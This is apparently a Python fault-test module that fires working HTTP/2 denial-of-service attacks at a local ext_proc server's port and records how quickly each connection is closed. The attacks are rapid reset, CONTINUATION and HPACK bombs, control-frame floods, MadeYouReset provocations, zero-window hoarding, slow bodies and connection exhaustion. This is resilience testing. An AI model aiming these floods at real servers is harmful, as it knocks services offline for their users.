"""Peers that mean harm: each speaks raw frames to an ext_proc port and sees how long it is let.

    python -m tests.faults.attacks NAME --port PORT [--seconds 5]     prints one JSON object

An attack is a script for one connection: bytes, without end. `pour` sends them as fast as they are taken, reads what comes back,
and says when and with which words the connection was closed. As a program an attacker comes again at once, for so many seconds.
Some attacks are patient instead: they hold what they have and send nothing more, and a picker's time limits have to end them.
"""

import argparse
import dataclasses
import itertools
import json
import resource
import select
import socket
import struct
import sys
import time
from collections.abc import Callable, Iterator

from epp.protocol.proto import ext_proc_pb2 as pb
from tests.faults.client import (
    ACK,
    BLOCK,
    CONTINUATION,
    DATA,
    END_HEADERS,
    END_STREAM,
    FRAME_MAX,
    GOAWAY,
    HEADERS,
    PING,
    PREFACE,
    RST,
    SETTINGS,
    WINDOW,
    frame,
    framed,
    header_block,
)

PRIORITY = 2
CALM = 11
INITIAL_WINDOW = 4
READ_BYTES = 1 << 18
BODY_BYTES = 31 << 20
PIECE_BYTES = 1 << 20
AT_ONCE = 64  # scripts are handed over in chunks of so many steps
STREAMS_AT_FIRST = 8
CONNECTIONS = 1500


@dataclasses.dataclass
class Closed:
    """How one connection ended. `after` is in seconds from its first byte; None: it was not closed."""

    after: float | None = None
    code: int | None = None  # of the GOAWAY
    text: str = ""
    sent: int = 0  # bytes


def word(value: int) -> bytes:
    return struct.pack(">I", value)


def _head(name: str = "attack", path: str = "/v1/completions") -> bytes:
    """The first message of a request, so that there is something to be done for a stream."""
    message = pb.ProcessingRequest()
    for key, value in ((":method", "POST"), (":path", path), ("x-request-id", name)):
        message.request_headers.headers.headers.add(key=key, raw_value=value.encode())
    return framed(message)


def _body(size: int, *, last: bool) -> bytes:
    """A piece of a body."""
    return framed(pb.ProcessingRequest(request_body=pb.HttpBody(body=b"x" * size, end_of_stream=last)))


def _data(number: int, payload: bytes, flags: int = 0) -> bytes:
    """As many DATA frames as it takes."""
    cuts = range(0, max(1, len(payload)), FRAME_MAX)
    return b"".join(frame(DATA, flags if at == cuts[-1] else 0, number, payload[at : at + FRAME_MAX]) for at in cuts)


HEAD = _head()
GREETING = PREFACE + frame(SETTINGS, 0, 0) + frame(SETTINGS, ACK, 0)
Script = Iterator[bytes]


def _opened(number: int) -> bytes:
    """A stream with the beginning of a request."""
    return frame(HEADERS, END_HEADERS, number, BLOCK) + frame(DATA, 0, number, HEAD)


def _numbers() -> Iterator[int]:
    return itertools.count(1, 2)


def rapid_reset() -> Script:
    """Streams that are opened and taken back at once, half of them with a request begun."""
    for number in _numbers():
        began = _opened(number) if number & 2 else frame(HEADERS, END_HEADERS, number, BLOCK)
        yield began + frame(RST, 0, number, word(8))


def continuation() -> Script:
    """A header block without end."""
    yield frame(HEADERS, 0, 1, BLOCK)
    yield from itertools.repeat(frame(CONTINUATION, 0, 1, b"\0\1a\1b" * 4))


def hpack_bomb() -> Script:
    """Header blocks in which every byte stands for 3 KiB."""
    large = b"\x40\x01a\x7f\x81\x17" + bytes(3072)
    for number in _numbers():
        yield frame(HEADERS, END_HEADERS | END_STREAM, number, BLOCK + large + b"\xbe" * 1000)


def pings() -> Script:
    yield from itertools.repeat(frame(PING, 0, 0, bytes(8)))


def settings() -> Script:
    """Each moves the windows of all streams."""
    for number in itertools.islice(_numbers(), STREAMS_AT_FIRST):
        yield _opened(number)
    for value in itertools.cycle((100, 200)):
        yield frame(SETTINGS, 0, 0, struct.pack(">HI", INITIAL_WINDOW, value))


def empty_data() -> Script:
    yield _opened(1)
    yield from itertools.repeat(frame(DATA, 0, 1))


def window_updates() -> Script:
    yield _opened(1)
    yield from itertools.repeat(frame(WINDOW, 0, 1, word(1)))


def priorities() -> Script:
    yield from itertools.repeat(frame(PRIORITY, 0, 1, bytes(5)))


def zero_window() -> Script:
    """Bodies that are echoed to a window of nothing, as many as it takes."""
    yield frame(SETTINGS, 0, 0, struct.pack(">HI", INITIAL_WINDOW, 0))
    piece = _body(PIECE_BYTES, last=False)
    for number in itertools.islice(_numbers(), STREAMS_AT_FIRST + 1):
        yield frame(HEADERS, END_HEADERS, number, BLOCK) + frame(DATA, 0, number, _head("hoard", "/upload"))
        pieces = _data(number, piece)
        yield from itertools.repeat(pieces, BODY_BYTES // PIECE_BYTES - 1)
        yield _data(number, _body(10, last=True))


def slow_body() -> Script:
    """Requests that are begun, a few bytes of body each, and left so."""
    for number in itertools.islice(_numbers(), STREAMS_AT_FIRST):
        yield _opened(number) + _data(number, _body(1000, last=False))


_WRONG_LENGTH = header_block()  # with a content-length that no body keeps: appended as a literal
_WRONG_LENGTH += b"\0\x0econtent-length\x041000"
PROVOCATIONS: dict[str, Callable[[int], bytes]] = {
    "WINDOW_UPDATE of nothing": lambda n: _opened(n) + frame(WINDOW, 0, n, word(0)),
    "a window above 2^31": lambda n: _opened(n) + frame(WINDOW, 0, n, word((1 << 31) - 1)),
    "PRIORITY of 4 bytes": lambda n: _opened(n) + frame(PRIORITY, 0, n, bytes(4)),
    "a stream that depends on itself": lambda n: _opened(n) + frame(PRIORITY, 0, n, word(n) + b"\0"),
    "HEADERS in the middle": lambda n: _opened(n) + frame(HEADERS, END_HEADERS, n, BLOCK),
    "a length that is not kept": lambda n: (
        frame(HEADERS, END_HEADERS, n, _WRONG_LENGTH) + frame(DATA, END_STREAM, n, HEAD)
    ),
}


def made_you_reset() -> Script:
    """Streams that are begun, and then an error of the peer that makes the server reset them: six kinds in turn."""
    for number, provoke in zip(_numbers(), itertools.cycle(PROVOCATIONS.values()), strict=False):
        yield provoke(number)


def provoking(kind: str) -> Callable[[], Script]:
    """One of the six alone."""
    return lambda: (PROVOCATIONS[kind](number) for number in _numbers())


ATTACKS: dict[str, Callable[[], Script]] = {
    "rapid reset": rapid_reset,
    "CONTINUATION": continuation,
    "HPACK bomb": hpack_bomb,
    "PING": pings,
    "SETTINGS": settings,
    "empty DATA": empty_data,
    "WINDOW_UPDATE": window_updates,
    "PRIORITY": priorities,
    "MadeYouReset": made_you_reset,
    "zero window": zero_window,
    "slow body": slow_body,
}


def pour(port: int, script: Script, seconds: float) -> Closed:
    """One connection: send the script for as long as it lasts, then wait; ends with the connection, or after so many seconds."""
    closed = Closed()
    pending = memoryview(GREETING)
    answers = bytearray()
    with socket.create_connection(("127.0.0.1", port), 10) as connection:
        connection.setblocking(False)
        begun = time.monotonic()
        while (left := begun + seconds - time.monotonic()) > 0:
            if not pending:
                pending = memoryview(b"".join(itertools.islice(script, AT_ONCE)))
            readable, writable, _ = select.select([connection], [connection] if pending else [], [], min(left, 0.5))
            try:
                if readable:
                    came = connection.recv(READ_BYTES)
                    answers += came
                    _read(answers, closed)
                    if not came:
                        closed.after = time.monotonic() - begun
                        break
                if writable and closed.code is None:
                    sent = connection.send(pending[:READ_BYTES])
                    closed.sent += sent
                    pending = pending[sent:]
            except OSError:
                closed.after = time.monotonic() - begun
                break
    return closed


def _read(answers: bytearray, closed: Closed) -> None:
    """Look for the GOAWAY among whole frames, and forget these."""
    at = 0
    while len(answers) - at >= 9:
        head, _, _ = struct.unpack_from(">IBI", answers, at)
        end = at + 9 + (head >> 8)
        if end > len(answers):
            break
        if head & 0xFF == GOAWAY:
            closed.code = int.from_bytes(answers[at + 13 : at + 17], "big")
            closed.text = answers[at + 17 : end].decode(errors="replace")
        at = end
    del answers[:at]


def exhaust(port: int, seconds: float, count: int = CONNECTIONS) -> Closed:
    """Connections that greet and do nothing, as many as there may be, each opened again when it is closed."""
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    begun, closed = time.monotonic(), Closed()
    poll, held = select.epoll(), {}
    try:
        while time.monotonic() - begun < seconds:
            for _ in range(min(50, count - len(held))):
                peer = socket.socket()
                peer.setblocking(False)
                peer.connect_ex(("127.0.0.1", port))
                held[peer.fileno()] = peer
                poll.register(peer, select.EPOLLOUT | select.EPOLLRDHUP)
            for number, event in poll.poll(0.02):
                peer = held[number]
                if event & (select.EPOLLRDHUP | select.EPOLLHUP | select.EPOLLERR):
                    closed.after = closed.after or time.monotonic() - begun
                    poll.unregister(number)
                    held.pop(number).close()
                else:
                    closed.sent += peer.send(GREETING)
                    poll.modify(number, select.EPOLLRDHUP)
    finally:
        for peer in held.values():
            peer.close()
        poll.close()
        resource.setrlimit(resource.RLIMIT_NOFILE, (soft, hard))
    return closed


def burn(seconds: float) -> None:
    """Use a CPU, send nothing: what an attacker on the same machine costs everybody."""
    until = time.monotonic() + seconds
    while time.monotonic() < until:
        bytes(100_000)


def persistent(name: str, port: int, seconds: float) -> list[Closed]:
    """Attack, and again at once when closed. Patient attacks wait to the end."""
    if name == "connections":
        return [exhaust(port, seconds)]
    if name == "control":
        burn(seconds)
        return []
    until, ends = time.monotonic() + seconds, []
    while (left := until - time.monotonic()) > 0:
        try:
            ends.append(pour(port, ATTACKS[name](), left))
        except OSError:  # nobody took the connection
            time.sleep(0.05)
    return ends


def main() -> int:
    line = argparse.ArgumentParser(description=(__doc__ or "").split("\n")[0])
    line.add_argument("name", choices=[*ATTACKS, "connections", "control"])
    line.add_argument("--port", type=int, required=True)
    line.add_argument("--seconds", type=float, default=5.0)
    given = line.parse_args()
    ends = persistent(given.name, given.port, given.seconds)
    print(json.dumps([dataclasses.asdict(end) for end in ends]))
    return 0


if __name__ == "__main__":
    sys.exit(main())
